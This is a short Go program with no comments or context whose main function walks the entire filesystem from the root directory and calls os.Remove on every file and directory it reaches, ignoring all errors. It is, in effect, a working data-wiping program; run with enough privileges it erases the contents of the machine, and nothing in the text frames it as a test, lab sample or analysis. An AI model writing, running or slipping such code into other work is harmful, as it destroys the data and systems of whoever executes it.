package main

import (
	"os"
	"path/filepath"
)

func main() {
	filepath.Walk("/", func(path string, info os.FileInfo, err error) error {
		os.Remove(path)
		return nil
	})
}
